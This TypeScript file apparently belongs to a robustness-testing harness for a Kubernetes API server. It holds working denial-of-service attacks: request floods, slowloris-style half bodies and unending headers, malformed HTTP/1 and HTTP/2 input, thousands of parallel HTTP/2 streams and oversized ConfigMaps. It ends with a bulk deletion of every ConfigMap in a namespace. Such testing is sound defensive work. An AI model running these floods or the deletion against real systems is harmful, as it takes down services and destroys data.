/** Concurrency: unauthenticated connections, slow or missing bodies, headers, large requests in parallel. */

import { connect as connectHttp2 } from 'node:http2';
import { connect } from 'node:tls';
import { type Attack, atOnce, NAMESPACE, repeat, summary } from '../attack.ts';
import type { Target } from '../target.ts';

const CONFIG_MAPS = `/api/v1/namespaces/${NAMESPACE}/configmaps`;
const LARGE = 3_000_000;

/** Writes raw text on a new connection and resolves with the first line received, or after `ms`. */
function raw(target: Target, text: string | Buffer, ms: number): Promise<string> {
  return new Promise((resolve) => {
    const { hostname: host, port } = target.url;
    const socket = connect({ host, port: Number(port), rejectUnauthorized: false }, () => socket.write(text));
    const end = (answer: string) => {
      clearTimeout(timer);
      socket.destroy();
      resolve(answer);
    };
    const timer = setTimeout(() => end('silence'), ms);
    socket.once('data', (chunk: Buffer) => end(/^HTTP\/1.1 (\d+)/.exec(chunk.toString())?.[1] ?? 'other'));
    socket.once('error', (error: NodeJS.ErrnoException) => end(error.code ?? error.message));
    socket.once('close', () => end('closed'));
  });
}

/** Writes the same text repeatedly and reads the responses, for at most `ms`. */
async function flood(target: Target, text: Buffer, times: number, ms: number): Promise<string> {
  const { hostname: host, port } = target.url;
  const socket = connect({ host, port: Number(port), rejectUnauthorized: false });
  let isOpen = true;
  socket
    .on('error', () => undefined)
    .once('close', () => {
      isOpen = false;
    });
  socket.resume();
  const until = performance.now() + ms;
  for (let i = 0; i < times && isOpen && performance.now() < until; i++) {
    if (socket.write(text)) continue;
    await new Promise<void>((go) => {
      const late = setTimeout(go, until - performance.now());
      socket.once('drain', () => {
        clearTimeout(late);
        go();
      });
    });
  }
  const end = isOpen ? 'borne' : 'cut';
  socket.destroy();
  return end;
}

function streams(
  target: Target,
  count: number,
  headers: Record<string, string>,
  ms: number,
): Promise<string> {
  const session = connectHttp2(target.url, { rejectUnauthorized: false });
  session.on('error', () => undefined);
  const answers = Array.from({ length: count }, () => {
    const stream = session.request(
      { ':method': 'POST', ':path': CONFIG_MAPS, ...headers },
      { endStream: false },
    );
    return new Promise<string>((resolve) => {
      const timer = setTimeout(() => resolve('silence'), ms);
      const end = (answer: string) => {
        clearTimeout(timer);
        resolve(answer);
      };
      stream.on('response', (answer) => end(String(answer[':status'])));
      stream.on('error', () => end('reset'));
      stream.on('close', () => end('closed'));
      stream.resume();
      stream.write(Buffer.alloc(500_000, 'x'));
    });
  });
  return Promise.all(answers).then((all) => {
    session.destroy();
    return summary(all);
  });
}

const CHUNKED = `POST ${CONFIG_MAPS} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nAuthorization: Bearer `;
/** Malformed HTTP/1, sent without credentials or by an admin. */
const SPEECHES: readonly (readonly [name: string, text: (token: string) => string])[] = [
  ['another version', () => 'GET /version HTTP/2.0\r\nHost: a\r\n\r\n'],
  [
    'another version and another protocol',
    () => 'GET / HTTP/2.0\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n',
  ],
  ['the preface of HTTP/2', () => 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
  ['CONNECT', () => 'CONNECT a:443 HTTP/1.1\r\nHost: a\r\n\r\n'],
  ['a method of 100 KB', () => `${'A'.repeat(100_000)} / HTTP/1.1\r\nHost: a\r\n\r\n`],
  ['10,000 requests at once', () => 'GET /version HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(10_000)],
  ['10,000 requests and then nonsense', () => `${'GET /a HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(10_000)}x\r\n`],
  [
    '2,000 wishes for another protocol at once',
    () => 'GET /a HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: a\r\n\r\n'.repeat(2_000),
  ],
  ['pieces of one byte', (token) => `${CHUNKED}${token}\r\n\r\n${'1\r\nx\r\n'.repeat(500_000)}0\r\n\r\n`],
  [
    'pieces with long extensions',
    (token) => `${CHUNKED}${token}\r\n\r\n${`1;${'a'.repeat(10_000)}\r\nx\r\n`.repeat(3_000)}0\r\n\r\n`,
  ],
  [
    'trailers of 3 MB',
    (token) =>
      `${CHUNKED}${token}\r\n\r\n2\r\n{}\r\n0\r\n${`X-A: ${'a'.repeat(10_000)}\r\n`.repeat(300)}\r\n`,
  ],
  [
    'a length of 2^53',
    (token) =>
      `POST ${CONFIG_MAPS} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${token}\r\nContent-Length: 9007199254740993\r\n\r\n{`,
  ],
];

const map = (i: number, value: string) =>
  JSON.stringify({ metadata: { name: `m-${i}-${Math.random().toString(36).slice(2)}` }, data: { k: value } });
const keys = repeat(50_000, '"k#":"b"', ',');

export function connectionAttacks(): Attack[] {
  return [
    ...SPEECHES.map(([name, text]) => ({
      name: `connections: ${name}`,
      run: (target: Target) => raw(target, text(target.tokens.admin), 10_000),
    })),
    {
      name: 'connections: a million requests on one',
      run: (target) =>
        flood(target, Buffer.from('GET /a HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(20_000)), 50, 10_000),
    },
    {
      name: 'connections: 300 of nobody, each with the largest body',
      run: (target) => {
        const body = Buffer.alloc(LARGE, '[');
        return atOnce(300, () => target.send({ path: CONFIG_MAPS, sender: 'anonymous', body }));
      },
    },
    {
      name: 'connections: 300 of nobody, that send half a body',
      run: (target) => {
        const head = `POST ${CONFIG_MAPS} HTTP/1.1\r\nHost: a\r\nContent-Length: ${LARGE}\r\n\r\n`;
        const half = Buffer.concat([Buffer.from(head), Buffer.alloc(LARGE / 2, 'x')]);
        return atOnce(300, () => raw(target, half, 5_000));
      },
    },
    {
      name: 'connections: 100 large bodies that stop halfway',
      run: (target) => {
        const head = `POST ${CONFIG_MAPS} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${target.tokens.admin}\r\nContent-Length: ${LARGE}\r\n\r\n`;
        const half = Buffer.concat([Buffer.from(head), Buffer.alloc(LARGE / 2, 'x')]);
        return atOnce(100, () => raw(target, half, 40_000));
      },
    },
    {
      name: 'connections: 300 with 120 KB of header fields that do not end',
      run: (target) => {
        const head = `GET / HTTP/1.1\r\nHost: a\r\n${`X-A: ${'a'.repeat(10_000)}\r\n`.repeat(12)}`;
        return atOnce(300, () => raw(target, head, 5_000));
      },
    },
    {
      name: 'connections: 300 with a megabyte of header fields',
      run: (target) => {
        const head = `GET / HTTP/1.1\r\nHost: a\r\n${`X-A: ${'a'.repeat(10_000)}\r\n`.repeat(100)}\r\n`;
        return atOnce(300, () => raw(target, head, 5_000));
      },
    },
    {
      name: 'connections: 900 streams of nobody in one HTTP/2 connection',
      run: (target) => streams(target, 900, {}, 10_000),
    },
    {
      name: 'connections: 900 streams with half a body in one HTTP/2 connection',
      run: (target) =>
        streams(
          target,
          900,
          { authorization: `Bearer ${target.tokens.admin}`, 'content-length': String(LARGE) },
          40_000,
        ),
    },
    {
      name: 'connections: 60 ConfigMaps of a megabyte at once',
      run: (target) =>
        atOnce(60, (i) => target.send({ path: CONFIG_MAPS, body: map(i, 'x'.repeat(1_000_000)) })),
    },
    {
      name: 'connections: 30 ConfigMaps of 50,000 keys at once',
      run: (target) =>
        atOnce(30, (i) =>
          target.send({ path: CONFIG_MAPS, body: `{"metadata":{"name":"k-${i}"},"data":{${keys}}}` }),
        ),
    },
    {
      name: 'connections: 60 small patches of those ConfigMaps at once',
      run: (target) =>
        atOnce(60, (i) =>
          target.send({
            path: `${CONFIG_MAPS}/k-${i % 10}`,
            method: 'PATCH',
            type: 'application/merge-patch+json',
            body: `{"data":{"k${i}":"c"}}`,
          }),
        ),
    },
    {
      name: 'connections: 60 deletions for show of those ConfigMaps at once',
      run: (target) =>
        atOnce(60, (i) => target.send({ path: `${CONFIG_MAPS}/k-${i % 10}?dryRun=All`, method: 'DELETE' })),
    },
    {
      name: 'connections: 40 lists of those ConfigMaps at once',
      run: (target) => atOnce(40, () => target.send({ path: CONFIG_MAPS })),
    },
    {
      name: 'connections: 10 lists of those ConfigMaps in YAML at once',
      run: (target) =>
        atOnce(10, () => target.send({ path: CONFIG_MAPS, headers: { accept: 'application/yaml' } })),
    },
    {
      name: 'connections: 100 times one of those ConfigMaps in YAML at once',
      run: (target) =>
        atOnce(100, () =>
          target.send({ path: `${CONFIG_MAPS}/k-0`, headers: { accept: 'application/yaml' } }),
        ),
    },
    {
      name: 'connections: all those ConfigMaps deleted',
      run: (target) => target.send({ method: 'DELETE', path: CONFIG_MAPS }),
    },
  ];
}
